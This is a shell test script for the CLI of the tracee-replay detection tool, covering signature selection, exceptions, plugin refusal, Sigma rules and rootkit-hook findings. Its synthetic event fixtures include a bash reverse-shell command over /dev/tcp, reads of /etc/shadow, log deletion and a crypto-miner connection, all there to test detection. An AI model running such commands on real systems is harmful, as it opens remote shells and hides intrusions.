#!/usr/bin/env bash
# CLI tests of the signature options of tracee-replay: selection
# (--signatures), exceptions (--exceptions, --except) and their counts,
# out-of-tree plugins (--signatures-dir) and Sigma rules (--sigma), on the
# synthetic recording of gen_recording (one exec of /tmp/payload by pid 201).
. "$(dirname "$0")/../lib.sh"
REPLAY=$OUTPUT/tracee-replay
"$OUTPUT/gen_recording" "$tmp/rec" || { echo "FAIL gen_recording"; exit 1; }

# selection
run "$REPLAY" -F --signatures TRR-1001 "$tmp/rec"
expect_rc 0 "--signatures TRR-1001"
lines out 1 "--signatures TRR-1001 finds the exec"
run "$REPLAY" -F --signatures all,-exec_from_temp_dir "$tmp/rec"
expect_rc 0 "--signatures all,-NAME"
lines out 0 "--signatures all,-NAME leaves it out"
run "$REPLAY" -F --signatures TRC-4242 "$tmp/rec"
expect_rc 1 "--signatures with an unknown id"
has err "tracee-replay: error: --signatures: no signature with id or name 'TRC-4242'" "unknown id is named"
run "$REPLAY" --signatures TRR-1001 "$tmp/rec"
[ "$(grep -c '"signatureID"' "$tmp/out")" = 1 ] && [ "$(wc -l <"$tmp/out")" -gt 1 ] \
	&& ok "--signatures implies --findings" || bad "--signatures without -f: $(wc -l <"$tmp/out") lines"

# exceptions: counted per exception, never silent
run "$REPLAY" -F --except 'signature=TRR-1001 exe=/tmp/pay*' "$tmp/rec"
expect_rc 0 "--except"
lines out 0 "--except suppresses the finding"
has err "tracee-replay: exception --except 1 suppressed 1 finding" "--except is counted"
has err "tracee-replay: 1 finding suppressed by 1 exception" "--except total"
cat >"$tmp/exc" <<'X'
# responder's tools
ir-tools: comm=nothing-like-it signature=TRR-1001
payload: signature=exec_from_temp_dir,TRC-102 user=0,1000 container=host arg.pathname="/tmp/pay*"
X
run "$REPLAY" -F --exceptions "$tmp/exc" "$tmp/rec"
expect_rc 0 "--exceptions FILE"
lines out 0 "--exceptions FILE suppresses"
has err "exception ir-tools suppressed 0 findings" "an exception that matched nothing is listed"
has err "exception payload suppressed 1 finding" "the matching exception is counted"
run "$REPLAY" -F --except 'signature=TRR-1001 container=container' "$tmp/rec"
lines out 1 "an exception for containers leaves a host finding"
run "$REPLAY" -F --except 'signature=TRR-1001 ancestor=/nowhere/*' "$tmp/rec"
lines out 1 "an ancestor that is not one leaves the finding"
printf 'ok: signature=TRR-1001\nbad: colour=blue\n' >"$tmp/exc2"
run "$REPLAY" -F --exceptions "$tmp/exc2" "$tmp/rec"
expect_rc 1 "a bad exceptions file"
has err "tracee-replay: error: --exceptions: $tmp/exc2:2: unknown key 'colour'" "the bad line is named"
empty out "a bad exceptions file replays nothing"
run "$REPLAY" -F --except 'user=alice' "$tmp/rec"
expect_rc 1 "a bad --except"
has err "user=alice: a uid (or root)" "a bad --except says why"
run "$REPLAY" -F --exceptions "$tmp/none" "$tmp/rec"
expect_rc 1 "a missing exceptions file"
has err "$tmp/none: cannot open: No such file or directory" "a missing exceptions file is named"

# out-of-tree signatures: the example plugin, built by make
EX=$OUTPUT/examples/sig_example.so
[ -f "$EX" ] || { echo "FAIL $EX is missing (run: make)"; exit 1; }
GEN=$OUTPUT/gen_events
cat >"$tmp/ev.txt" <<'X'
proc: pid=100 ppid=1 comm=bash exe=/usr/bin/bash cwd=/root
openat: dirfd=-100 pathname=/etc/shadow flags=0 @comm=cat @ret=3
openat: dirfd=-100 pathname=/etc/shadow flags=0 @comm=passwd @ret=3
X
"$GEN" "$tmp/shadow" <"$tmp/ev.txt" || bad "gen_events"
mkdir -m 0755 "$tmp/plugins"
cp "$EX" "$tmp/plugins/" && chmod 0644 "$tmp/plugins/sig_example.so"
run "$REPLAY" -F --signatures-dir "$tmp/plugins" "$tmp/shadow"
expect_rc 0 "--signatures-dir with the example"
lines out 1 "the example plugin fires once (passwd is exempt)"
same "$(jq -r '"\(.metadata.Properties.signatureID) \(.eventName) \(.processName) \(.args[0].value)"' "$tmp/out")" \
	"EXA-1001 shadow_file_opened cat /etc/shadow" "the plugin's finding"
run "$REPLAY" --list-signatures --signatures-dir "$tmp/plugins"
has out "$(printf 'EXA-1001\tmedium\tany\tT1003.008 /etc/passwd and /etc/shadow\tshadow_file_opened\topenat,open,security_file_open\tlive (+derived: security_file_open)')" \
	"--list-signatures lists the plugin's signature"
run "$REPLAY" -F --signatures EXA-1001 --signatures-dir "$tmp/plugins" "$tmp/shadow"
lines out 1 "--signatures selects a plugin's signature"
chmod 0666 "$tmp/plugins/sig_example.so"
run "$REPLAY" -F --signatures-dir "$tmp/plugins" "$tmp/shadow"
expect_rc 1 "a world-writable plugin"
has err "sig_example.so: is writable by group or others (refused" "a world-writable plugin is refused"
chmod 0644 "$tmp/plugins/sig_example.so"
chmod 0775 "$tmp/plugins"
run "$REPLAY" -F --signatures-dir "$tmp/plugins" "$tmp/shadow"
expect_rc 1 "a group-writable plugin directory"
has err "plugins: is writable by group or others (refused: anyone could put a plugin there)" "a group-writable directory is refused"
chmod 0755 "$tmp/plugins"
# broken plugins, each alone in a directory
plugin() { # NAME BODY
	mkdir -m 0755 "$tmp/p-$1"
	printf '#include "signature.h"\n%s\n' "$2" >"$tmp/p-$1/p.c"
	${CC:-cc} -shared -fPIC -Ireplay -Ireplay/enrich -Ischema -o "$tmp/p-$1/$1.so" "$tmp/p-$1/p.c" && chmod 0644 "$tmp/p-$1/$1.so" \
		|| bad "cannot build plugin $1"
}
OKSIG='static int f(struct tr_sig_ctx *c, const struct tr_event_view *v) { return 0; }
static const char *const ev[] = { "openat" };'
plugin abi "$OKSIG
const uint32_t tr_sig_plugin_abi = 999;
static const struct tr_signature s = { .id = \"X-1\", .name = \"x\", .description = \"d\", .events = ev, .nevents = 1, .on_event = f };
static const struct tr_signature *const t[] = { &s };
const struct tr_signature *const *tr_sig_plugin_table(size_t *n) { *n = 1; return t; }"
run "$REPLAY" -F --signatures-dir "$tmp/p-abi" "$tmp/shadow"
expect_rc 1 "an ABI mismatch"
has err "abi.so: built for signature ABI 999, this build has" "an ABI mismatch is refused"
plugin nosym "$OKSIG
const uint32_t tr_sig_plugin_abi = TR_SIG_ABI_VERSION;"
run "$REPLAY" -F --signatures-dir "$tmp/p-nosym" "$tmp/shadow"
expect_rc 1 "a missing symbol"
has err "nosym.so: does not export tr_sig_plugin_table (refused)" "a missing symbol is refused"
plugin noname "$OKSIG
const uint32_t tr_sig_plugin_abi = TR_SIG_ABI_VERSION;
static const struct tr_signature s = { .id = \"X-1\", .description = \"d\", .events = ev, .nevents = 1, .on_event = f };
static const struct tr_signature *const t[] = { &s };
const struct tr_signature *const *tr_sig_plugin_table(size_t *n) { *n = 1; return t; }"
run "$REPLAY" -F --signatures-dir "$tmp/p-noname" "$tmp/shadow"
expect_rc 1 "a null name"
has err "noname.so: table entry 0: a signature without a name (refused)" "a null name is refused"
plugin noevents "$OKSIG
const uint32_t tr_sig_plugin_abi = TR_SIG_ABI_VERSION;
static const struct tr_signature s = { .id = \"X-1\", .name = \"x\", .description = \"d\", .events = ev, .nevents = 0, .on_event = f };
static const struct tr_signature *const t[] = { &s };
const struct tr_signature *const *tr_sig_plugin_table(size_t *n) { *n = 1; return t; }"
run "$REPLAY" -F --signatures-dir "$tmp/p-noevents" "$tmp/shadow"
expect_rc 1 "zero selects"
has err "noevents.so: table entry 0: X-1: selects no events (refused)" "zero selects are refused"
plugin dup "$OKSIG
const uint32_t tr_sig_plugin_abi = TR_SIG_ABI_VERSION;
static const struct tr_signature s = { .id = \"TRR-1001\", .name = \"x\", .description = \"d\", .events = ev, .nevents = 1, .on_event = f };
static const struct tr_signature *const t[] = { &s };
const struct tr_signature *const *tr_sig_plugin_table(size_t *n) { *n = 1; return t; }"
run "$REPLAY" -F --signatures-dir "$tmp/p-dup" "$tmp/shadow"
expect_rc 1 "a plugin reusing a built-in id"
has err "signature TRR-1001 (x) is defined twice" "a reused id is refused"

# Sigma rules: each category fires on its event, and the summary counts
# what was loaded and refused, by reason
cat >"$tmp/sigma.txt" <<'X'
proc: pid=100 ppid=1 comm=bash exe=/usr/bin/bash cwd=/root
sched_process_exec: cmdpath=/usr/bin/bash pathname=/usr/bin/bash argv=bash|-c|bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 @comm=bash
openat: dirfd=-100 pathname=/etc/cron.d/evil flags=0101 @ret=3 @comm=bash
unlinkat: dirfd=-100 pathname=/var/log/auth.log flags=0 @comm=rm
renameat2: olddirfd=-100 oldpath=/var/log/syslog newdirfd=-100 newpath=/tmp/syslog flags=0 @comm=mv
connect: sockfd=3 addr=inet:127.0.0.1:3333 @comm=xmrig
X
"$GEN" "$tmp/sigma" <"$tmp/sigma.txt" || bad "gen_events sigma"
run "$REPLAY" -F --signatures all,-TRR-1002,-TRR-1003,-TRR-1007,-TRC-1027 --sigma fixtures/sigma "$tmp/sigma"
expect_rc 0 "--sigma DIR"
has err "tracee-replay: sigma: loaded 16 rules, refused 0" "--sigma summary"
for t in "Bash Reverse Shell Through /dev/tcp" "Cron File Created Or Modified" "Log File Deleted Under /var/log" \
	 "Log File Renamed Away From /var/log" "Connection To A Stratum Mining Port"; do
	[ "$(jq -r --arg t "$t" 'select(.eventName == $t) | .metadata.Properties.signatureID' "$tmp/out" | wc -l)" = 1 ] \
		&& ok "sigma: $t fires once" || bad "sigma: $t: $(jq -r .eventName "$tmp/out" | sort | uniq -c | tr '\n' ';')"
done
same "$(jq -r 'select(.eventName == "Bash Reverse Shell Through /dev/tcp") | "\(.metadata.Properties.Severity) \(.metadata.Properties.level) \(.metadata.Properties.external_id) \(.metadata.Properties.Category)"' "$tmp/out")" \
	"3 high T1059.004 execution" "a Sigma finding carries level, severity and MITRE"
run "$REPLAY" -F --signatures 7c1a5e0f-2b7e-4c77-9a50-1f4e2e0c6a01 --sigma fixtures/sigma "$tmp/sigma"
lines out 1 "--signatures selects a Sigma rule by id"
run "$REPLAY" -F --sigma fixtures/sigma --sigma fixtures/sigma-refused "$tmp/sigma"
expect_rc 0 "--sigma with rules it refuses"
has err "sigma: loaded 16 rules, refused 7 (1 unsupported condition; 2 unsupported logsource; 1 invalid YAML" "refusals summarised by reason"
has err "warning: fixtures/sigma-refused/keywords.yml: sigma rule refused: unsupported detection: keyword (full-text) search" \
	"each refused rule is named with its reason"
run "$REPLAY" -F --sigma "$tmp/no-rules" "$tmp/sigma"
expect_rc 1 "--sigma on a missing path"
has err "tracee-replay: error: --sigma: $tmp/no-rules: cannot open: No such file or directory" "a missing rule path is named"

# TRC-1020 and TRC-1030: live recordings cannot feed them, a Tracee log can
cat >"$tmp/tracee.jsonl" <<'X'
{"timestamp":1700000000000000000,"threadStartTime":1699999999000000000,"processorId":0,"processId":1,"cgroupId":1,"threadId":1,"parentProcessId":0,"hostProcessId":1,"hostThreadId":1,"hostParentProcessId":0,"userId":0,"mountNamespace":4026531841,"pidNamespace":4026531836,"processName":"tracee","executable":{"path":"/tracee"},"hostName":"h","containerId":"","eventId":"2021","eventName":"hooked_syscall","argsNum":4,"returnValue":0,"syscall":"","args":[{"name":"syscall","type":"string","value":"kill"},{"name":"address","type":"string","value":"ffffffffc0a01000"},{"name":"function","type":"string","value":"hide_kill"},{"name":"owner","type":"string","value":"rootkit"}]}
{"timestamp":1700000000000001000,"threadStartTime":1699999999000000000,"processorId":0,"processId":1,"cgroupId":1,"threadId":1,"parentProcessId":0,"hostProcessId":1,"hostThreadId":1,"hostParentProcessId":0,"userId":0,"mountNamespace":4026531841,"pidNamespace":4026531836,"processName":"tracee","executable":{"path":"/tracee"},"hostName":"h","containerId":"","eventId":"765","eventName":"hooked_proc_fops","argsNum":1,"returnValue":0,"syscall":"","args":[{"name":"hooked_fops_pointers","type":"[]trace.HookedSymbolData","value":[{"SymbolName":"iterate_shared","ModuleOwner":"rootkit"}]}]}
X
run "$REPLAY" --input tracee-json -F "$tmp/tracee.jsonl"
expect_rc 0 "Tracee JSON with hook events"
same "$(jq -r '"\(.metadata.Properties.signatureID) \(.eventName)"' "$tmp/out" | tr '\n' ' ')" \
	"TRC-1030 syscall_table_hooking TRC-1020 proc_fops_hooking " "hook signatures fire on a Tracee log"

exit $fail
